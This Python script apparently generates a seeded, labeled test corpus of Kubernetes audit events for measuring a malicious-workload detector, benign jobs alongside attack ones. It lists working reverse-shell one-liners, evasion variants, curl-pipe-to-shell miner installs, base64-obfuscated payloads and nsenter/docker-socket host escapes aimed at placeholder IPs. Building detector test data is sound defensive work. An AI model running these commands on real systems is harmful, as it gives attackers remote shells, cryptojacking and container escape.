#!/usr/bin/env python3
"""Writes src/test/resources/fixtures/eval/labeled.jsonl: a labeled corpus for precision/recall.

Each line is an audit event; the label lives in src/test/resources/fixtures/eval/labels.json
(auditID -> {"malicious": bool, "family": str}), so the events stay exactly what an API server writes.
Deterministic (seeded). Families follow the seed queries' own testing methodology (Atomic Red Team style
attacks) and the false positives their documentation names (backups, data pipelines, scanners, log
agents, health checks), plus what the API server adds on its own (defaulted fields, controller status
updates, both stages of every request). Spawned Jobs/Pods are left out: they are correlation's domain.
Run from the repository root: python3 samples/make_eval_corpus.py
"""
import base64
import json
import os
import random

import make_samples as S

R = random.Random(1053007)
LABELS = {}
EVENTS = []

NAMESPACES = ["prod", "web", "payments", "default", "build", "ops", "tools", "edge"]
HUMANS = ["alice@example.com", "bob@example.com", "carol@example.com", "system:serviceaccount:ci:deployer",
          "system:serviceaccount:argocd:argocd-application-controller"]
BASE_IMAGES = ["alpine:3.19", "ubuntu:22.04", "debian:12-slim", "busybox:1.36", "python:3.12-slim",
               "registry.example.com/platform/toolbox:4.2", "ghcr.io/acme/runner:1.8", "nicolaka/netshoot:v0.13"]
ATTACKER = "198.51.100.%d"


def name(prefix):
    return "%s-%s" % (prefix, "".join(R.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(5)))


def add(events, malicious, family):
    for e in events:
        EVENTS.append(e)
        if e["stage"] == "ResponseComplete":
            LABELS[e["auditID"]] = {"malicious": malicious, "family": family}


def shell(cmd):
    form = R.randrange(3)
    if form == 0:
        return ["/bin/sh", "-c", cmd], None
    if form == 1:
        return ["/bin/bash", "-c"], [cmd]
    return ["sh"], ["-c", cmd]


def workload(kind, ns, nm, containers, volumes=None, host_network=None, host_pid=None, schedule="*/5 * * * *"):
    spec = S.pod_spec(containers, volumes=volumes, host_network=host_network)
    if host_pid:
        spec["hostPID"] = True
    if kind == "cronjobs":
        return S.cronjob(nm, ns, spec, schedule)
    return S.job(nm, ns, spec)


def emit(kind, ns, nm, body, malicious, family, user=None, sec=None, verb="create", code=None, decision="allow", ip=None, ua=None):
    sec = R.randrange(0, 86400) if sec is None else sec
    kw = {}
    if ua:
        kw["ua"] = ua
    add(S.request(verb, kind, ns, nm, user or R.choice(HUMANS), sec, body, code=code, decision=decision,
                  ip=ip or "10.20.%d.%d" % (R.randrange(255), R.randrange(255)), **kw), malicious, family)


REVERSE_SHELLS = [
    "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "nc -e /bin/sh {ip} 9001",
    "ncat {ip} 443 --sh-exec /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} 1234 >/tmp/f",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:4443",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "perl -e 'use Socket;$i=\"{ip}\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'",
]

# Real-world one-liners the seed regexes were not written for (python3 rather than python, /dev/udp,
# php/ruby sockets, mknod pipes, base64 --decode): attackers use them with whatever image is at hand.
EVASIVE_SHELLS = [
    "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{ip}\",53));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "sh -i >& /dev/udp/{ip}/53 0>&1",
    "php -r '$sock=fsockopen(\"{ip}\",4444);exec(\"sh <&3 >&3 2>&3\");'",
    "ruby -rsocket -e 'c=TCPSocket.new(\"{ip}\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){{|io|c.print io.read}};end'",
    "mknod /tmp/p p && /bin/sh 0</tmp/p | telnet {ip} 4444 1>/tmp/p",
    "echo {b64} | base64 --decode | sh",
]
CUSTOM_IMAGES = ["registry.example.com/platform/toolbox:4.2", "ghcr.io/acme/runner:1.8",
                 "registry.example.com/app/worker:7.1", "quay.io/acme/ops-tools:2.0"]

MINERS = [
    "curl -fsSL http://{ip}/x -o /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker",
    "wget -q http://{ip}/xmrig -O /dev/shm/.x; chmod 755 /dev/shm/.x; /dev/shm/.x -o stratum+tcp://pool.example.net:3333",
    "curl -s http://{ip}/install.sh | bash",
    "wget -qO- http://{ip}/m.sh | sh",
]


def malicious_cases(n):
    for _ in range(n):
        family = R.choice(["reverse-shell", "privileged-hostpath", "runtime-socket", "miner", "obfuscated",
                           "host-escape", "patch-to-malicious", "refused-attempt", "evasive-shell"])
        kind = R.choice(["cronjobs", "jobs"])
        ns = R.choice(NAMESPACES)
        nm = name(R.choice(["sync", "cleanup", "report", "metrics", "cache", "rotate"]))
        ip = ATTACKER % R.randrange(1, 254)
        image = R.choice(BASE_IMAGES)
        if family == "reverse-shell":
            cmd, args = shell(R.choice(REVERSE_SHELLS).format(ip=ip))
            body = workload(kind, ns, nm, [S.container("c", image, cmd, args)])
        elif family == "privileged-hostpath":
            path = R.choice(["/etc", "/", "/var/lib/kubelet", "/root", "/etc/kubernetes"])
            body = workload(kind, ns, nm, [S.container("c", image, ["sleep", "infinity"], privileged=True, mounts=[("host", "/host")])],
                            volumes=[S.host_path("host", path)])
        elif family == "runtime-socket":
            sock = R.choice(["/var/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/crio/crio.sock",
                             "/var/run/../run/docker.sock", "/var/run/docker.sock/"])
            body = workload(kind, ns, nm, [S.container("c", R.choice(["docker:24-cli", image]), ["docker", "ps"], mounts=[("sock", "/var/run/docker.sock")])],
                            volumes=[S.host_path("sock", sock)])
        elif family == "miner":
            cmd, args = shell(R.choice(MINERS).format(ip=ip))
            img = R.choice([image, "xmrig/xmrig:6.21"]) if R.random() < 0.3 else image
            body = workload(kind, ns, nm, [S.container("c", img, cmd, args)])
        elif family == "obfuscated":
            payload = R.choice(REVERSE_SHELLS + MINERS).format(ip=ip)
            if R.random() < 0.5:
                b64 = base64.b64encode(payload.encode()).decode()
                cmd, args = shell("echo %s | base64 -d | sh" % b64)
                body = workload(kind, ns, nm, [S.container("c", image, cmd, args)])
            else:
                body = workload(kind, ns, nm, [S.container("c", image, ["sh", "-c"], ['eval "$PAYLOAD"'], env=[("PAYLOAD", payload)])])
        elif family == "evasive-shell":
            b64 = base64.b64encode(("curl -fsSL http://%s/s | sh" % ip).encode()).decode()
            cmd, args = shell(R.choice(EVASIVE_SHELLS).format(ip=ip, b64=b64))
            body = workload(kind, ns, nm, [S.container("c", R.choice(CUSTOM_IMAGES), cmd, args)])
        elif family == "host-escape":
            # Host PID namespace plus nsenter into PID 1: no privileged flag, no hostPath, no hostNetwork needed.
            body = workload(kind, ns, nm, [S.container("c", R.choice(CUSTOM_IMAGES), ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                                                       caps=["SYS_ADMIN"] if R.random() < 0.5 else None)],
                            host_pid=True)
        elif family == "patch-to-malicious":
            # A benign CronJob later patched (JSON Patch) to run a reverse shell.
            ns, nm = ns, name("nightly")
            emit("cronjobs", ns, nm, workload("cronjobs", ns, nm, [S.container("c", "registry.example.com/app/batch:3", ["/app/run"])]),
                 False, "benign-before-patch")
            cmd, args = shell(R.choice(REVERSE_SHELLS).format(ip=ip))
            ops = [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/command", "value": cmd}]
            if args:
                ops.append({"op": "add", "path": "/spec/jobTemplate/spec/template/spec/containers/0/args", "value": args})
            emit("cronjobs", ns, nm, ops, True, family, verb="patch")
            continue
        else:  # refused-attempt
            cmd, args = shell(R.choice(REVERSE_SHELLS + MINERS).format(ip=ip))
            body = workload(kind, ns, nm, [S.container("c", image, cmd, args, privileged=True)])
            emit(kind, ns, nm, body, True, family, code=403, decision="forbid", ip=ip)
            continue
        emit(kind, ns, nm, body, True, family, ip=ip if R.random() < 0.5 else None)


def benign_cases(n):
    for _ in range(n):
        family = R.choice(["db-backup", "not-privileged", "data-pipeline", "health-check", "log-rotation",
                           "security-scan", "cleanup", "controller-status", "plain-app", "ci-build"])
        kind = R.choice(["cronjobs", "jobs"])
        ns = R.choice(NAMESPACES)
        nm = name(family)
        if family == "db-backup":
            tool = R.choice([("postgres:16", "pg_dump -h db -U backup app | gzip > /backup/app-$(date +%F).sql.gz"),
                             ("mysql:8.4", "mysqldump -h db --all-databases | gzip > /backup/all.sql.gz"),
                             ("mongo:7", "mongodump --uri=$MONGO_URI --archive=/backup/db.archive --gzip")])
            cmd, args = shell(tool[1])
            body = workload(kind, "db", nm, [S.container("backup", tool[0], cmd, args, mounts=[("backup", "/backup"), ("cfg", "/etc/backup")])],
                            volumes=[{"name": "backup", "persistentVolumeClaim": {"claimName": "backups"}},
                                     {"name": "cfg", "configMap": {"name": "backup-cfg"}}])
            ns = "db"
        elif family == "not-privileged":
            body = workload(kind, ns, nm, [S.container("app", "registry.example.com/app/worker:7.1", ["/app/worker"], ["--once"],
                                                       privileged=False, mounts=[("cfg", "/etc/app"), ("proc-stats", "/var/proc-stats")])],
                            volumes=[{"name": "cfg", "configMap": {"name": "app"}}, {"name": "proc-stats", "emptyDir": {}}])
        elif family == "data-pipeline":
            ns = "data-pipelines"
            body = workload(kind, ns, nm, [S.container("etl", "python:3.12", ["python", "-c"], ["import etl; etl.run('daily')"])])
            emit(kind, ns, nm, body, False, family, user="system:serviceaccount:data-pipelines:airflow")
            continue
        elif family == "health-check":
            cmd, args = shell("curl -fsS -X POST https://hooks.example.com/heartbeat/%s" % nm)
            body = workload(kind, ns, nm, [S.container("ping", "curlimages/curl:8.8.0", cmd, args)])
        elif family == "log-rotation":
            cmd, args = shell("find /var/log/app -name '*.log' -mtime +7 -delete")
            body = workload(kind, ns, nm, [S.container("rotate", "busybox:1.36", cmd, args, mounts=[("logs", "/var/log/app")])],
                            volumes=[S.host_path("logs", "/var/log/app")])
        elif family == "security-scan":
            ns = "security-scan"
            body = workload(kind, ns, nm, [S.container("kube-bench", "aquasec/kube-bench:v0.8.0", ["kube-bench", "run", "--targets", "node"],
                                                       mounts=[("etc-k8s", "/etc/kubernetes"), ("kubelet", "/var/lib/kubelet")])],
                            volumes=[S.host_path("etc-k8s", "/etc/kubernetes"), S.host_path("kubelet", "/var/lib/kubelet")], host_pid=True)
        elif family == "cleanup":
            cmd, args = shell("find /data/tmp -type f -mtime +1 -delete && echo done")
            body = workload(kind, ns, nm, [S.container("cleanup", R.choice(["alpine:3.19", "busybox:1.36", "debian:12-slim"]), cmd, args,
                                                       mounts=[("data", "/data")])],
                            volumes=[{"name": "data", "persistentVolumeClaim": {"claimName": "scratch"}}])
        elif family == "controller-status":
            # The CronJob controller writes status after every run; it sends the whole object.
            body = workload("cronjobs", ns, nm, [S.container("c", "busybox:1.36", ["/bin/sh", "-c", "date; echo hello"])])
            body["status"] = {"lastScheduleTime": S.ts(R.randrange(86400))}
            add(S.request("update", "cronjobs", ns, nm, "system:serviceaccount:kube-system:cronjob-controller", R.randrange(86400), body,
                          subresource="status", ip="10.0.0.10", ua="kube-controller-manager/v1.30.2"), False, family)
            continue
        elif family == "ci-build":
            cmd, args = shell("git clone https://git.example.com/app.git /src && cd /src && make test")
            body = workload(kind, ns, nm, [S.container("build", "registry.example.com/ci/builder:2024.11", cmd, args)])
        else:  # plain-app
            body = workload(kind, ns, nm, [S.container("app", "registry.example.com/app/%s:1.%d" % (R.choice(["mailer", "billing", "indexer"]), R.randrange(20)),
                                                       ["/app/bin/run"], ["--job", nm])])
        emit(kind, ns, nm, body, False, family)


def main():
    malicious_cases(120)
    benign_cases(240)
    out = "src/test/resources/fixtures/eval"
    os.makedirs(out, exist_ok=True)
    with open(out + "/labeled.jsonl", "w") as f:
        for e in EVENTS:
            f.write(json.dumps(e, separators=(",", ":")) + "\n")
    with open(out + "/labels.json", "w") as f:
        json.dump(LABELS, f, indent=0, sort_keys=True)


if __name__ == "__main__":
    main()
